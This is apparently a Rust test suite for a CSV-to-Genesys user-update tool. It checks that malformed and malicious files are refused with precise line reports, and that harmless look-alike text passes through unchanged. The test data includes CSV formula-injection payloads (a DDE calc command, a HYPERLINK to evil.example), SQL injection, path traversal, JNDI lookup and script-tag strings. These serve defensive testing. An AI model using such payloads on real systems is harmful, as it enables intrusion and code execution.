//! The hostile-input matrix: files that are broken, odd or malicious, each fed to the
//! real binary as `genupdate apply FILE` against a sandbox. Every one must exit 3
//! (the input is invalid, nothing was sent), name the expected line (and column) on
//! stderr as `FILE:LINE:COLUMN: message`, print no raw control character, and send
//! zero requests. The bytes are generated here, one table row per case.
//!
//! Then the other side of the formula rule: values that only look dangerous (SQL,
//! JSON, paths, escaped formulas) are plain text and reach Genesys exactly as meant,
//! and an undo file holding `'+1...` phone numbers applies as it is.

mod common;

use std::time::Duration;

use common::input::{A, B, C};
use common::{ModelUser, genupdate, s, sandbox};
use genesys_sandbox::{Quirks, Sandbox, SandboxConfig};

struct Case {
    name: &'static str,
    bytes: Vec<u8>,
    /// The line that must be reported.
    line: u64,
    /// `Some(sub)`: the column must contain `sub`; `None`: the problem has no column.
    column: Option<&'static str>,
    /// The message must contain this.
    text: &'static str,
    /// Every line reported; empty means just `line`.
    lines: &'static [u64],
}

fn case(
    name: &'static str,
    bytes: impl Into<Vec<u8>>,
    line: u64,
    column: Option<&'static str>,
    text: &'static str,
) -> Case {
    Case {
        name,
        bytes: bytes.into(),
        line,
        column,
        text,
        lines: &[],
    }
}

/// `header` and `rows`, each line ended by LF.
fn file(header: &str, rows: &[&str]) -> Vec<u8> {
    let mut s = format!("{header}\n");
    for r in rows {
        s.push_str(r);
        s.push('\n');
    }
    s.into_bytes()
}

/// A header and one row whose cells are bytes (for invalid UTF-8).
fn file_bytes(header: &str, row: &[&[u8]]) -> Vec<u8> {
    let mut v = format!("{header}\n").into_bytes();
    v.extend_from_slice(&row.join(&b","[..]));
    v.push(b'\n');
    v
}

fn utf16(s: &str, big_endian: bool) -> Vec<u8> {
    let mut v = if big_endian {
        vec![0xFE, 0xFF]
    } else {
        vec![0xFF, 0xFE]
    };
    for u in s.encode_utf16() {
        v.extend(if big_endian {
            u.to_be_bytes()
        } else {
            u.to_le_bytes()
        });
    }
    v
}

fn cases() -> Vec<Case> {
    let row = |title: &str| format!("{A},{title}");
    let title_file = |title: &str| file("id,title", &[&row(title)]);
    let title_bytes = |title: &[u8]| file_bytes("id,title", &[A.as_bytes(), title]);
    let wide_header: String = std::iter::once("id".to_string())
        .chain((0..3000).map(|i| format!("col{i}")))
        .collect::<Vec<_>>()
        .join(",");
    let mut cases = vec![
        // --- encodings
        case(
            "utf16le_bom",
            utf16(&format!("id,title\n{A},Lead\n"), false),
            1,
            None,
            "the file is UTF-16",
        ),
        case(
            "utf16be_bom",
            utf16(&format!("id,title\n{A},Lead\n"), true),
            1,
            None,
            "the file is UTF-16",
        ),
        case(
            "utf16le_no_bom",
            utf16(&format!("id,title\n{A},Lead\n"), false).split_off(2),
            1,
            None,
            "looks like UTF-16 without a byte-order mark",
        ),
        case(
            "latin1_cell",
            title_bytes(b"Ren\xe9"),
            2,
            Some("title"),
            "byte 0xE9 at byte 4 (\"\u{e9}\" in Windows-1252 or Latin-1?)",
        ),
        case(
            "windows1252_smart_quotes",
            title_bytes(b"\x93Lead\x94"),
            2,
            Some("title"),
            "(\"\u{201c}\" in Windows-1252?)",
        ),
        case(
            "latin1_header",
            b"id,d\xe9partement\n".to_vec(),
            1,
            None,
            "header cell 2 is not valid UTF-8",
        ),
        case(
            "invalid_utf8_mid_cell",
            title_bytes(b"Tea\xffm Lead"),
            2,
            Some("title"),
            "byte 0xFF at byte 4",
        ),
        case(
            "truncated_multibyte",
            file_bytes("id,title,department", &[A.as_bytes(), b"caf\xc3", b"x"]),
            2,
            Some("title"),
            "byte 0xC3 at byte 4",
        ),
        case(
            "overlong_slash",
            title_bytes(b"..\xc0\xaf..\xc0\xafetc"),
            2,
            Some("title"),
            "byte 0xC0 at byte 3",
        ),
        case(
            "overlong_nul",
            title_bytes(b"a\xc0\x80b"),
            2,
            Some("title"),
            "not valid UTF-8",
        ),
        case(
            "utf8_surrogate",
            title_bytes(b"\xed\xa0\x80"),
            2,
            Some("title"),
            "not valid UTF-8",
        ),
        case(
            "above_u10ffff",
            title_bytes(b"\xf4\x90\x80\x80"),
            2,
            Some("title"),
            "not valid UTF-8",
        ),
        case(
            "xlsx_workbook",
            b"PK\x03\x04\x14\x00\x06\x00".to_vec(),
            1,
            None,
            "spreadsheet workbook",
        ),
        case(
            "png_image",
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00".to_vec(),
            1,
            None,
            "header cell 1 is not valid UTF-8",
        ),
        // --- byte-order marks
        case(
            "double_bom",
            [b"\xef\xbb\xbf\xef\xbb\xbf".to_vec(), title_file("Lead")].concat(),
            1,
            Some("id"),
            "U+FEFF (byte-order mark) at character 1",
        ),
        case(
            "bom_before_a_later_line",
            [
                b"id,title\n".to_vec(),
                b"\xef\xbb\xbf".to_vec(),
                row("Lead").into_bytes(),
            ]
            .concat(),
            2,
            Some("id"),
            "U+FEFF (byte-order mark) at character 1",
        ),
        case(
            "only_a_bom",
            b"\xef\xbb\xbf".to_vec(),
            1,
            None,
            "the file is empty",
        ),
        // --- quotes
        case(
            "unbalanced_quote_mid_file",
            file(
                "id,title,state",
                &[&format!("{A},\"Lead,active"), &format!("{B},Agent,active")],
            ),
            2,
            Some("title"),
            "never closed, so the rest of the file was read into this cell",
        ),
        case(
            "unbalanced_quote_at_eof",
            format!("id,title\n{A},\"Team Lead"),
            2,
            Some("title"),
            "opens a double quote that is never closed",
        ),
        case(
            "quote_inside_unquoted_cell",
            title_file("Team \"Lead\""),
            2,
            Some("title"),
            "double quote inside a cell that does not start with one",
        ),
        case(
            "text_after_closing_quote",
            title_file("\"Team\" Lead"),
            2,
            Some("title"),
            "text after its closing double quote",
        ),
        case(
            "stray_quote_in_header",
            file("id,ti\"tle", &[&row("Lead")]),
            1,
            None,
            "header cell 2 has a double quote inside",
        ),
        // --- ragged rows
        case(
            "too_few_cells",
            file("id,title,department", &[&row("Lead")]),
            2,
            Some("department"),
            "expected 3 cells as in the header, found 2",
        ),
        case(
            "too_many_cells",
            file("id,title", &[&row("Lead,Sales")]),
            2,
            None,
            "1 more than the header has",
        ),
        case(
            "ragged_later_line",
            file("id,title", &[&row("Lead"), &format!("{B},Agent"), C]),
            4,
            Some("title"),
            "the row ends before column \"title\"",
        ),
        // --- size
        case(
            "huge_cell",
            title_file(&"x".repeat(1_100_000)),
            2,
            None,
            "runs over 1 MiB",
        ),
        case(
            "huge_line",
            title_file(&vec!["y".repeat(100); 12_000].join(",")),
            2,
            None,
            "runs over 1 MiB",
        ),
        case(
            "thousands_of_header_columns",
            file(&wide_header, &[&format!("{A}{}", ",".repeat(3000))]),
            1,
            Some("col2999"),
            "unknown column \"col2999\" (header cell 2 lists the columns",
        ),
        case(
            "seventy_thousand_header_columns",
            file(&format!("id{}", ",c".repeat(70_000)), &[A]),
            1,
            None,
            "65536 cells",
        ),
        case(
            "thousands_of_row_cells",
            title_file(&vec!["x"; 5000].join(",")),
            2,
            None,
            "4999 more than the header has",
        ),
        // --- control characters
        case("nul", title_file("Team\0Lead"), 2, Some("title"), "U+0000"),
        case(
            "tab",
            title_file("Team\tLead"),
            2,
            Some("title"),
            "U+0009 (tab) at character 5",
        ),
        case("bell", title_file("Lead\x07"), 2, Some("title"), "U+0007"),
        case(
            "ansi_escape_in_cell",
            title_file("\x1b[31mred\x1b[0m"),
            2,
            Some("title"),
            "a control character U+001B at character 1",
        ),
        case(
            "ansi_escape_in_header",
            file("id,title\x1b[2J", &[&row("Lead")]),
            1,
            Some("title\\u{001B}[2J"),
            "U+001B at character 6",
        ),
        case(
            "cr_inside_quoted_cell",
            title_file("\"Team\rLead\""),
            2,
            Some("title"),
            "contains a line break at character 5",
        ),
        case(
            "delete_char",
            title_file("Lead\x7f"),
            2,
            Some("title"),
            "U+007F",
        ),
        case(
            "c1_next_line",
            title_file("Lead\u{85}"),
            2,
            Some("title"),
            "U+0085",
        ),
        // --- invisible characters
        case(
            "zero_width_space",
            title_file("Team\u{200b}Lead"),
            2,
            Some("title"),
            "U+200B (zero-width space) at character 5",
        ),
        case(
            "bom_mid_header",
            file("id,ti\u{feff}tle", &[&row("Lead")]),
            1,
            Some("ti\\u{FEFF}tle"),
            "U+FEFF (byte-order mark) at character 3); did you mean \"title\"?",
        ),
        case(
            "rtl_override",
            file("id,name", &[&format!("{A},\u{202e}gnp.exe")]),
            2,
            Some("name"),
            "U+202E",
        ),
        case(
            "nbsp_trailing",
            file("id,department", &[&format!("{A},Sales\u{a0}")]),
            2,
            Some("department"),
            "trailing whitespace character U+00A0 (no-break space)",
        ),
        case(
            "nbsp_in_header",
            file("id,title\u{a0}", &[&row("Lead")]),
            1,
            Some("title"),
            "U+00A0 (no-break space)); did you mean \"title\"?",
        ),
        case(
            "zero_width_joiner_in_id",
            file("id,title", &[&format!("{A}\u{200d},Lead")]),
            2,
            Some("id"),
            "U+200D (zero-width joiner)",
        ),
        // --- headers
        case(
            "duplicate_header",
            file("id,title,title", &[&row("Lead,Lead")]),
            1,
            Some("title"),
            "duplicate column \"title\": cells 2 and 3",
        ),
        case(
            "duplicate_header_other_case",
            file(
                "id,phone:work,phone:WORK",
                &[&format!("{A},+13175550100,+13175550101")],
            ),
            1,
            Some("phone:WORK"),
            "is the same column",
        ),
        case(
            "header_trailing_space",
            file("id,title ", &[&row("Lead")]),
            1,
            Some("title "),
            "(it has a trailing space); did you mean \"title\"?",
        ),
        case(
            "empty_header_cell",
            file("id,,title", &[&row(",Lead")]),
            1,
            None,
            "header cell 2 is empty",
        ),
        case(
            "header_only",
            b"id,title\n".to_vec(),
            1,
            None,
            "a header but no rows",
        ),
        case("empty_file", Vec::new(), 1, None, "the file is empty"),
        case(
            "only_newlines",
            b"\n\n\r\n\n".to_vec(),
            1,
            None,
            "the file is empty",
        ),
        case(
            "one_column_no_id",
            file("name", &["Jane Doe"]),
            1,
            None,
            "no id column",
        ),
        case(
            "formula_header",
            file("id,=1+1", &[&row("2")]),
            1,
            Some("=1+1"),
            "unknown column",
        ),
        // --- formulas
        case(
            "formula_hyperlink",
            title_file("\"=HYPERLINK(\"\"http://evil.example\"\",\"\"click\"\")\""),
            2,
            Some("title"),
            "starts with =: spreadsheets run a cell that starts with =, +, - or @ as a formula",
        ),
        case(
            "formula_at_sum",
            file("id,department", &[&format!("{A},@SUM(A1)")]),
            2,
            Some("department"),
            "write it with a leading ' ('@...)",
        ),
        case(
            "formula_dde_calc",
            file("id,name", &[&format!("{A},+cmd|' /C calc'!A0")]),
            2,
            Some("name"),
            "starts with +",
        ),
        case(
            "formula_minus",
            file("id,preferredName", &[&format!("{A},-2+3")]),
            2,
            Some("preferredName"),
            "starts with -",
        ),
        case(
            "formula_in_phone",
            file("id,phone:WORK", &[&format!("{A},-2+3")]),
            2,
            Some("phone:WORK"),
            "a phone number may start with +, but not with =, - or @",
        ),
        case(
            "formula_in_email",
            file("id,email", &[&format!("{A},=x@example.com")]),
            2,
            Some("email"),
            "starts with =",
        ),
        case(
            "escaped_formula_is_text_but_bad_one_is_not",
            file(
                "id,title,phone:WORK",
                &[
                    &format!("{A},\"'=HYPERLINK(\"\"x\"\")\",'+12125558832"),
                    &format!("{B},=x,"),
                ],
            ),
            3,
            Some("title"),
            "starts with =",
        ),
        case(
            "escaped_negative_proficiency",
            file("id,skill:Billing", &[&format!("{A},'-1")]),
            2,
            Some("skill:Billing"),
            "must be a proficiency from 0 to 5",
        ),
        // --- ids
        case(
            "id_42",
            file("id,title", &["42,Lead"]),
            2,
            Some("id"),
            "id must be a user id (a UUID",
        ),
        case(
            "id_in_braces",
            file("id,title", &[&format!("{{{A}}},Lead")]),
            2,
            Some("id"),
            "id must be a user id",
        ),
        case(
            "id_urn",
            file("id,title", &[&format!("urn:uuid:{A},Lead")]),
            2,
            Some("id"),
            "id must be a user id",
        ),
        case(
            "id_padded_in_quotes_is_accepted",
            file(
                "id,title",
                &[&format!("\" {A} \",Lead"), &format!("{B},=x")],
            ),
            3,
            Some("title"),
            "starts with =",
        ),
        case(
            "id_with_g",
            file("id,title", &["00000000-0000-0000-0000-00000000000g,Lead"]),
            2,
            Some("id"),
            "id must be a user id",
        ),
        case(
            "id_clear_marker",
            file("id,title", &["#CLEAR,Lead"]),
            2,
            Some("id"),
            "id cannot be #CLEAR",
        ),
        case(
            "id_missing",
            file("id,title", &[",Lead"]),
            2,
            Some("id"),
            "missing id",
        ),
        case(
            "id_twice",
            file(
                "id,title",
                &[&row("Lead"), &format!("{B},x"), &row("Agent")],
            ),
            4,
            Some("id"),
            "it is already on line 2",
        ),
        // --- text that only looks dangerous: valid; the only problem is on line 6
        case(
            "sql_json_path_values_are_text",
            file(
                "id,title,department",
                &[
                    &format!("{A},Robert'); DROP TABLE users;--,../../../etc/passwd"),
                    &format!("{B},\"{{\"\"$ne\"\": null}}\",..\\..\\windows\\system32"),
                    &format!("{C},<script>alert(1)</script>,${{jndi:ldap://x/a}}"),
                    "",
                    &format!("{A},dup,"),
                ],
            ),
            6,
            Some("id"),
            "already on line 2",
        ),
        // --- values
        case(
            "date_that_does_not_exist",
            file("id,employerInfo.dateHire", &[&format!("{A},2023-02-29")]),
            2,
            Some("employerInfo.dateHire"),
            "must be a date that exists",
        ),
        case(
            "proficiency_nan",
            file("id,skill:Billing", &[&format!("{A},NaN")]),
            2,
            Some("skill:Billing"),
            "got \"NaN\"",
        ),
        case(
            "proficiency_inf",
            file("id,language:Spanish", &[&format!("{A},inf")]),
            2,
            Some("language:Spanish"),
            "got \"inf\"",
        ),
        case(
            "proficiency_5_0001",
            file("id,skill:Billing", &[&format!("{A},5.0001")]),
            2,
            Some("skill:Billing"),
            "from 0 to 5",
        ),
        case(
            "proficiency_decimal_comma",
            file("id,skill:Billing", &[&format!("{A},\"3,5\"")]),
            2,
            Some("skill:Billing"),
            "use a dot as the decimal separator",
        ),
        case(
            "boolean_yes",
            file("id,acdAutoAnswer", &[&format!("{A},yes")]),
            2,
            Some("acdAutoAnswer"),
            "must be true or false, got \"yes\"",
        ),
        case(
            "state_deleted",
            file("id,state", &[&format!("{A},deleted")]),
            2,
            Some("state"),
            "must be active or inactive, got \"deleted\"",
        ),
        case(
            "whitespace_only_cell",
            title_file("   "),
            2,
            Some("title"),
            "holds only whitespace",
        ),
        // --- line counting
        case(
            "bare_cr_line_endings",
            format!("id,state\r{A},active\r\r{B},on\r"),
            4,
            Some("state"),
            "got \"on\"",
        ),
        case(
            "blank_lines_before_the_bad_row",
            format!("id,title\r\n\r\n{A},Lead\r\n\n\n{B},@x\r\n"),
            6,
            Some("title"),
            "starts with @",
        ),
    ];
    // A multi-line cell is itself refused, and the lines after it still count right.
    let mut multi = case(
        "multi_line_cell_then_bad_row",
        format!("id,title\n{A},\"two\nlines\"\n\n{B},=x\n"),
        5,
        Some("title"),
        "starts with =",
    );
    multi.lines = &[2, 5];
    cases.push(multi);
    cases
}

/// One stderr line as `(line, column, message)`, if it is a problem of `file`.
fn parse<'a>(file: &str, l: &'a str) -> Option<(u64, Option<&'a str>, &'a str)> {
    let rest = l.strip_prefix(file)?.strip_prefix(':')?;
    let (line, rest) = rest.split_once(':')?;
    let line = line.parse().ok()?;
    match rest.strip_prefix(' ') {
        Some(message) => Some((line, None, message)),
        None => {
            let (column, message) = rest.split_once(": ")?;
            Some((line, Some(column), message))
        }
    }
}

async fn run_case(sb: &Sandbox, dir: &std::path::Path, c: &Case) -> Result<String, String> {
    let path = dir.join(format!("{}.csv", c.name));
    std::fs::write(&path, &c.bytes).unwrap();
    let file = s(&path);
    let run = tokio::time::timeout(Duration::from_secs(60), genupdate(sb, &["apply", file]))
        .await
        .map_err(|_| "hung for 60 s".to_string())?;
    let fail = |why: String| Err(format!("{why}\n--- stderr:\n{}", run.stderr));
    if run.code != 3 {
        return fail(format!("exit {} instead of 3", run.code));
    }
    if let Some(c) = run.stderr.chars().find(|&c| c.is_control() && c != '\n') {
        return fail(format!(
            "raw control character U+{:04X} on stderr",
            c as u32
        ));
    }
    if run.stderr.contains("panicked") || !run.stderr.contains("nothing was sent") {
        return fail("no \"nothing was sent\", or a panic".into());
    }
    let problems: Vec<_> = run.stderr.lines().filter_map(|l| parse(file, l)).collect();
    let hit = problems.iter().find(|(line, column, message)| {
        *line == c.line
            && match (c.column, column) {
                (None, None) => true,
                (Some(want), Some(got)) => got.contains(want),
                _ => false,
            }
            && message.contains(c.text)
    });
    let Some((line, column, _)) = hit else {
        return fail(format!(
            "no problem at line {} column {:?} saying {:?}",
            c.line, c.column, c.text
        ));
    };
    let mut lines: Vec<u64> = problems.iter().map(|p| p.0).collect();
    lines.dedup();
    let want = if c.lines.is_empty() {
        vec![c.line]
    } else {
        c.lines.to_vec()
    };
    if lines != want {
        return fail(format!("lines {lines:?} reported, expected {want:?}"));
    }
    let requests = sb.stats().requests;
    if requests != 0 {
        return fail(format!("{requests} request(s) reached the sandbox"));
    }
    Ok(format!(
        "{} -> exit 3, {line}:{}",
        c.name,
        column.unwrap_or("-")
    ))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_hostile_file_is_refused_with_its_line_and_nothing_is_sent() {
    let sb = sandbox(SandboxConfig {
        users: 20,
        quirks: Quirks::none(),
        ..SandboxConfig::unlimited()
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let cases = cases();
    assert!(cases.len() >= 30);
    let mut names = std::collections::HashSet::new();
    let mut failures = Vec::new();
    for c in &cases {
        assert!(names.insert(c.name), "duplicate case name {}", c.name);
        match run_case(&sb, dir.path(), c).await {
            Ok(summary) => eprintln!("{summary}"),
            Err(why) => failures.push(format!("{}: {why}", c.name)),
        }
    }
    assert_eq!(sb.stats().requests, 0);
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n\n")
    );
}

/// The user's address of `media` and `kind`.
fn contact(sb: &Sandbox, id: &str, media: &str, kind: &str) -> Option<String> {
    sb.model_user(id)?
        .addresses
        .into_iter()
        .find(|c| c.media_type.as_deref() == Some(media) && c.kind.as_deref() == Some(kind))
        .and_then(|c| c.address)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn values_that_only_look_dangerous_reach_genesys_as_written() {
    let sb = sandbox(SandboxConfig {
        users: 20,
        quirks: Quirks::none(),
        ..SandboxConfig::unlimited()
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let ids = sb.user_ids();
    let rows = [
        format!(
            "{},\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",Robert'); DROP TABLE users;--,'-2+3,'+12125558832",
            ids[0]
        ),
        format!(
            "{},\"{{\"\"$ne\"\": null}}\",../../../etc/passwd,${{jndi:ldap://x/a}},+1 212 555 0000",
            ids[1]
        ),
        format!("{},''=literal,<script>alert(1)</script>,'@home,", ids[2]),
    ];
    let file = common::csv(
        dir.path(),
        "looks.csv",
        "id,title,department,preferredName,phone:WORK",
        &rows,
    );
    let run = genupdate(&sb, &["validate", s(&file)]).await;
    assert_eq!(run.code, 0, "{run:?}");
    let run = genupdate(&sb, &["apply", s(&file)]).await;
    assert_eq!(run.code, 0, "{run:?}");
    let user = |i: usize| sb.model_user(&ids[i]).unwrap();
    let u = user(0);
    assert_eq!(u.title.as_deref(), Some("=HYPERLINK(\"http://x\",\"y\")"));
    assert_eq!(
        u.department.as_deref(),
        Some("Robert'); DROP TABLE users;--")
    );
    assert_eq!(u.preferred_name.as_deref(), Some("-2+3"));
    assert_eq!(
        contact(&sb, &ids[0], "PHONE", "WORK").as_deref(),
        Some("+12125558832")
    );
    let u = user(1);
    assert_eq!(u.title.as_deref(), Some("{\"$ne\": null}"));
    assert_eq!(u.department.as_deref(), Some("../../../etc/passwd"));
    assert_eq!(u.preferred_name.as_deref(), Some("${jndi:ldap://x/a}"));
    assert_eq!(
        contact(&sb, &ids[1], "PHONE", "WORK").as_deref(),
        Some("+12125550000"),
        "sent in E.164"
    );
    let u = user(2);
    assert_eq!(u.title.as_deref(), Some("'=literal"));
    assert_eq!(u.department.as_deref(), Some("<script>alert(1)</script>"));
    assert_eq!(u.preferred_name.as_deref(), Some("@home"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_undo_file_with_quoted_phone_numbers_applies_as_it_is() {
    let sb = sandbox(SandboxConfig {
        users: 20,
        quirks: Quirks::none(),
        ..SandboxConfig::unlimited()
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let ids: Vec<String> = sb
        .user_ids()
        .into_iter()
        .filter(|id| contact(&sb, id, "PHONE", "WORK").is_some())
        .take(5)
        .collect();
    assert!(ids.len() >= 3, "the seed gives most users a work phone");
    let before: Vec<String> = ids
        .iter()
        .map(|id| contact(&sb, id, "PHONE", "WORK").unwrap())
        .collect();
    assert!(before.iter().all(|p| p.starts_with('+')));
    let rows: Vec<String> = ids
        .iter()
        .enumerate()
        .map(|(i, id)| format!("{id},+44 20 7946 09{i:02}"))
        .collect();
    let file = common::csv(dir.path(), "phones.csv", "id,phone:WORK", &rows);
    let undo = dir.path().join("undo.csv");
    let run = genupdate(&sb, &["apply", s(&file), "--undo", s(&undo)]).await;
    assert_eq!(run.code, 0, "{run:?}");
    let undo_rows = common::read_csv(&undo);
    for (row, old) in undo_rows[1..].iter().zip(&before) {
        assert_eq!(row[1], format!("'{old}"), "the undo file neutralises the +");
    }
    let run = genupdate(&sb, &["validate", s(&undo)]).await;
    assert_eq!(run.code, 0, "{run:?}");
    let run = genupdate(&sb, &["apply", s(&undo)]).await;
    assert_eq!(run.code, 0, "{run:?}");
    for (id, old) in ids.iter().zip(&before) {
        assert_eq!(contact(&sb, id, "PHONE", "WORK").as_ref(), Some(old));
    }
}

#[test]
fn the_reader_drops_the_quote_from_the_value_and_keeps_it_in_raw() {
    use genupdate::input::{Cell, Value, open};
    let dir = tempfile::tempdir().unwrap();
    let path = common::csv(
        dir.path(),
        "undo.csv",
        "id,phone:WORK,title",
        &[format!("{A},'+12125558832,''=x")],
    );
    let (_, mut rows) = open(&path).unwrap();
    let row = rows.next().unwrap().unwrap();
    assert_eq!(row.cells[1], Cell::Set(Value::Text("+12125558832".into())));
    assert_eq!(row.cells[2], Cell::Set(Value::Text("'=x".into())));
    assert_eq!(row.raw, [A, "'+12125558832", "''=x"]);
}
